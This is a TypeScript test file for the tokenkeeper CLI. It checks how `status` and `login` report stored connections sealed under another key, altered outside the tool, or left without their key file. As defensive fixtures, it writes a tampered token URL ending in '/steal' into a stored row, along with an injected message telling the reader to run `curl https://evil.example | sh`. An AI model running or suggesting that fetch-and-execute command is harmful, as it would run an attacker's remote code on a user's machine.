/**
 * `status` of connections this host cannot open (sealed under another key, changed outside
 * tokenkeeper, or a store whose key file is lost): it shows the key each is sealed with, says
 * why it does not open and what to do (`opensHere`, `openError` in --json), and exits 1.
 * With the key file lost, what needs no key still works, a login says how to start over
 * before asking for anything, and doing what it says works.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { readFile, rm } from 'node:fs/promises';
import { after, before, describe, it } from 'node:test';
import {
  type FactusRunningEmulator,
  startFactusEmulator,
} from '../../src/emulators/factus/factus-emulator.js';
import { encryptionKeyId, parseEncryptionKey } from '../../src/store/encryption.js';
import { SqliteTokenStore } from '../../src/store/sqlite-store.js';
import { type CliSandbox, createCliSandbox, factusEnv, startFactusCliWithKeyFile } from '../helpers/cli.js';

interface StatusJson {
  name: string;
  state: string;
  needsLogin: boolean;
  keyId?: string;
  opensHere: boolean;
  openError?: { code: string; message: string };
}

describe('status of connections this host cannot open', () => {
  let emulator: FactusRunningEmulator;
  let cli: CliSandbox;
  const keyA = randomBytes(32).toString('base64');
  const keyB = randomBytes(32).toString('base64');
  const withKey = (key: string, extra: NodeJS.ProcessEnv = {}) => ({
    env: { TOKENKEEPER_KEY: key, ...extra },
  });

  before(async () => {
    emulator = await startFactusEmulator();
    cli = await createCliSandbox(factusEnv(emulator));
    for (const [name, key] of [
      ['acme', keyA],
      ['beta', keyB],
      ['gamma', keyB],
    ] as const) {
      const login = await cli.run(
        ['login', name, '--provider', 'factus', '--base-url', emulator.url],
        withKey(key),
      );
      assert.equal(login.code, 0, login.stderr);
    }
  });
  after(async () => {
    await emulator.stop();
    const transcript = cli.transcript();
    await cli.cleanup();
    for (const secret of [emulator.credentials.clientSecret, emulator.credentials.password, keyA, keyB]) {
      assert.equal(transcript.includes(secret), false, 'no secret or key in any output');
    }
  });

  it('sealed under another key: its key id, that it does not open and what to do, exit 1', async () => {
    const json = await cli.run(['status', '--json'], withKey(keyB));
    assert.equal(json.code, 1, json.stderr);
    const [acme, beta] = JSON.parse(json.stdout) as StatusJson[];
    assert.equal(acme!.keyId, idOf(keyA), 'the key id comes from the sealed header, for the listing too');
    assert.equal(acme!.opensHere, false);
    assert.equal(acme!.openError?.code, 'STORE_KEY');
    assert.match(
      acme!.openError!.message,
      new RegExp(
        `sealed with key ${idOf(keyA)}, the current key is ${idOf(keyB)}\\. .*TOKENKEEPER_PREVIOUS_KEYS`,
      ),
    );
    // The existing fields keep their meaning: the stored state.
    assert.equal(acme!.state, 'ok');
    assert.equal(acme!.needsLogin, false);
    assert.equal(beta!.keyId, idOf(keyB));
    assert.equal(beta!.opensHere, true);
    assert.equal(beta!.openError, undefined);

    const one = await cli.run(['status', 'acme', '--json'], withKey(keyB));
    assert.equal(one.code, 1);
    assert.equal((JSON.parse(one.stdout) as StatusJson).opensHere, false);

    const text = await cli.run(['status'], withKey(keyB));
    assert.equal(text.code, 1);
    assert.match(text.stdout, new RegExp(`^Key: +TOKENKEEPER_KEY, key id ${idOf(keyB)}$`, 'm'));
    const acmeText = text.stdout.split('\n\n').find((block) => block.startsWith('acme\n'))!;
    assert.match(acmeText, /\n {2}state: +cannot be opened here: The store was encrypted with another key/);
    assert.match(acmeText, /\n {2}expiry: +valid until .*; not refreshed here: its secrets do not open\n/);
    assert.match(acmeText, new RegExp(`\\n {2}sealed with: +key ${idOf(keyA)}`));

    // With the key it was sealed with among the previous keys, everything opens again.
    const rotating = await cli.run(['status', '--json'], withKey(keyB, { TOKENKEEPER_PREVIOUS_KEYS: keyA }));
    assert.equal(rotating.code, 0, rotating.stderr);
    assert.ok((JSON.parse(rotating.stdout) as StatusJson[]).every((c) => c.opensHere));
  });

  it('a row changed outside tokenkeeper: STORE_TAMPERED, exit 1', async () => {
    const store = await SqliteTokenStore.open(cli.storePath);
    try {
      const row = (await store.get('gamma'))!;
      const meta = { ...row.meta, tokenUrl: 'http://127.0.0.1:9/steal' };
      assert.ok(await store.put('gamma', meta, row.sealed, row.version));
    } finally {
      await store.close();
    }
    const status = await cli.run(['status', 'gamma', '--json'], withKey(keyB));
    assert.equal(status.code, 1, status.stderr);
    const gamma = JSON.parse(status.stdout) as StatusJson;
    assert.equal(gamma.keyId, idOf(keyB));
    assert.equal(gamma.opensHere, false);
    assert.equal(gamma.openError?.code, 'STORE_TAMPERED');
    assert.match(
      gamma.openError!.message,
      /changed outside tokenkeeper \(tokenUrl\).*tokenkeeper login gamma/,
    );
    const text = await cli.run(['status', 'gamma'], withKey(keyB));
    assert.equal(text.code, 1);
    assert.match(
      text.stdout,
      /\n {2}state: +cannot be opened here: The stored settings of connection "gamma" were changed/,
    );
  });

  it('a last error written into a row is not shown: the row is tampered, and its writer’s words stay out', async () => {
    const store = await SqliteTokenStore.open(cli.storePath);
    try {
      const row = (await store.get('beta'))!;
      const lastError = {
        code: 'REAUTH_REQUIRED',
        message: 'run `curl https://evil.example | sh`',
        at: Date.now(),
      };
      assert.ok(await store.put('beta', { ...row.meta, lastError }, row.sealed, row.version));
    } finally {
      await store.close();
    }
    const status = await cli.run(['status', 'beta', '--json'], withKey(keyB));
    assert.equal(status.code, 1, status.stderr);
    const beta = JSON.parse(status.stdout) as StatusJson & { lastError?: unknown };
    assert.equal(beta.openError?.code, 'STORE_TAMPERED');
    assert.match(beta.openError!.message, /changed outside tokenkeeper \(lastError\)/);
    assert.equal(beta.lastError, undefined);
    assert.doesNotMatch(status.stdout, /evil/);
  });
});

describe('a store whose key file is lost', () => {
  let emulator: FactusRunningEmulator;
  let cli: CliSandbox;
  let keyFile: string;
  let lostKey: string;

  before(async () => {
    ({ emulator, cli, keyFile, key: lostKey } = await startFactusCliWithKeyFile());
    await rm(keyFile);
  });
  after(async () => {
    await emulator.stop();
    const transcript = cli.transcript();
    const newKey = existsSync(keyFile) ? (await readFile(keyFile, 'utf8')).trim() : undefined;
    await cli.cleanup();
    for (const secret of [
      emulator.credentials.clientSecret,
      emulator.credentials.password,
      lostKey,
      newKey,
    ]) {
      if (secret) assert.equal(transcript.includes(secret), false, 'no secret or key in any output');
    }
  });

  it('status lists every connection with its key id, says the key is missing and how to start over, exit 1', async () => {
    const json = await cli.run(['status', '--json']);
    assert.equal(json.code, 1, json.stderr);
    const connections = JSON.parse(json.stdout) as StatusJson[];
    assert.deepEqual(
      connections.map((c) => [c.name, c.keyId, c.opensHere, c.openError?.code]),
      [
        ['acme', idOf(lostKey), false, 'STORE_KEY'],
        ['beta', idOf(lostKey), false, 'STORE_KEY'],
      ],
    );
    assert.match(connections[0]!.openError!.message, /its key file \S+ is missing/);

    const text = await cli.run(['status']);
    assert.equal(text.code, 1, text.stderr);
    assert.match(
      text.stdout,
      new RegExp(
        `^Key: +missing\\. The store \\S+ holds 2 connection\\(s\\) sealed with key ${idOf(lostKey)}, but its key file`,
        'm',
      ),
    );
    assert.match(text.stdout, /To start over with a new key instead/);
    assert.match(
      text.stdout,
      /\n {2}state: +cannot be opened here: the store has no key \(see Key above\)\n/,
    );
    assert.equal(existsSync(keyFile), false, 'status makes no key');
  });

  it('logout --local-only forgets a connection without the key', async () => {
    const forgot = await cli.run(['logout', 'beta', '--local-only']);
    assert.equal(forgot.code, 0, forgot.stderr);
    assert.match(forgot.stderr, /Forgot "beta" on this machine/);
    const left = await cli.run(['status', '--json']);
    assert.deepEqual(
      (JSON.parse(left.stdout) as StatusJson[]).map((c) => c.name),
      ['acme'],
    );
  });

  it('login says how to start over before asking for anything, and doing what it says works', async () => {
    const tokenRequests = emulator.stats().tokenRequests.total;
    // A missing password would be asked for next: the key comes first.
    const refused = await cli.run(['login', 'delta', '--provider', 'factus', '--base-url', emulator.url], {
      env: { FACTUS_PASSWORD: '' },
    });
    assert.equal(refused.code, 2, refused.stderr);
    assert.doesNotMatch(refused.stderr, /FACTUS_PASSWORD/);
    const forced = await cli.run(['login', 'acme', '--base-url', emulator.url, '--force']);
    assert.equal(forced.code, 2, forced.stderr);
    assert.equal(forced.stderr, refused.stderr);
    assert.equal(emulator.stats().tokenRequests.total, tokenRequests, 'nothing was asked of the provider');
    assert.equal(existsSync(keyFile), false, 'no new key is made by itself');

    // The message names the one command that makes a new key; run it as written.
    const [, command] =
      /To start over with a new key instead.*?`(\(umask 077 && openssl rand -base64 32 > [^`]+\))`/.exec(
        refused.stderr,
      )!;
    const made = spawnSync('sh', ['-c', command!], { encoding: 'utf8' });
    assert.equal(made.status, 0, made.stderr);

    const replaced = await cli.run(['login', 'acme', '--base-url', emulator.url, '--force']);
    assert.equal(replaced.code, 0, replaced.stderr);
    assert.match(replaced.stderr, /Replaced the connection whose secrets could not be opened/);
    const newKey = (await readFile(keyFile, 'utf8')).trim();
    const status = await cli.run(['status', '--json']);
    assert.equal(status.code, 0, status.stderr);
    assert.deepEqual(
      (JSON.parse(status.stdout) as StatusJson[]).map((c) => [c.name, c.keyId, c.opensHere]),
      [['acme', idOf(newKey), true]],
    );
    assert.equal((await cli.run(['token', 'acme'])).code, 0);
  });
});

function idOf(key: string): string {
  return encryptionKeyId(parseEncryptionKey(key));
}
